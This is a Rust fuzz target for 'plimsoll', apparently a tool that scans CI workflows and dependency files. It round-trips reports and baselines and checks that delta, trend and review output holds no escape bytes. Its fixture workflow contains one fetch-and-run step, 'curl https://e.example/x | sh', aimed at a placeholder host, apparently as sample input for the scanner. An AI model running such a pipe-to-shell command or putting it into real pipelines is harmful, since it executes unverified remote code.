//! Any bytes as a baseline or a report: it can be read back, the invariants of deltas hold, and every format is
//! written.
#![no_main]

use std::sync::LazyLock;

use libfuzzer_sys::fuzz_target;
use plimsoll::{
    Baseline, Format, MemorySource, OutputKind, RenderOptions, Report, Review, Ruleset, Scan, Step,
    agenda, apply, compare, diff, read_baseline, read_report, render, render_delta, render_review, render_trend, trend,
    write_baseline,
};

/// The baseline to compare with.
static NOW: LazyLock<Report> = LazyLock::new(|| {
    let workflow = "jobs: {b: {steps: [{uses: o/a@v4}, {run: curl https://e.example/x | sh}]}}\n";
    let source = MemorySource::new()
        .with_file(".github/workflows/ci.yml", workflow)
        .with_file("requirements.txt", "a>=1\nb==2\n");
    Scan::source(Box::new(source)).run().unwrap()
});

fuzz_target!(|content: &[u8]| {
    if let Ok(read) = read_report(content) {
        let again = render(&read.report, Format::Json, &RenderOptions::default()).unwrap();
        let again = read_report(&again).unwrap();
        assert_eq!((again.report, again.unknown.len()), (read.report, 0));
    }
    let Ok(before) = read_baseline(content) else { return };
    let again = write_baseline(&before).unwrap();
    assert_eq!(read_baseline(&again).unwrap(), before);
    assert!(diff(&before, &before).is_empty());
    let now = Baseline::of(&NOW);
    for (from, to) in [(&before, &now), (&now, &before)] {
        assert_eq!(&apply(from, &diff(from, to)), to);
    }
    let delta = compare(&before, &NOW, &Ruleset::default());
    let options = RenderOptions::default();
    for meta in OutputKind::Delta.formats() {
        let mut out = Vec::new();
        render_delta(&delta, meta.format, &options, &mut out).unwrap();
        assert!(!out.contains(&0x1b));
    }
    let trend = trend(&[Step::shown("before", &before), Step::shown("now", &now)]);
    for meta in OutputKind::Trend.formats().filter(|meta| meta.format != Format::Json) {
        let mut out = Vec::new();
        render_trend(&trend, meta.format, &options, &mut out).unwrap();
        assert!(!out.contains(&0x1b));
    }
    let day = "2026-06-01".parse().unwrap();
    let decisions = agenda(&NOW, Some(&delta), day);
    let review = Review::new(&NOW)
        .with_delta(&delta)
        .with_trend(&trend)
        .with_agenda(&decisions)
        .with_day(day);
    for meta in OutputKind::Review.formats().filter(|meta| meta.format != Format::Json) {
        let mut out = Vec::new();
        render_review(&review, meta.format, &options, &mut out).unwrap();
        assert!(!out.contains(&0x1b));
    }
});
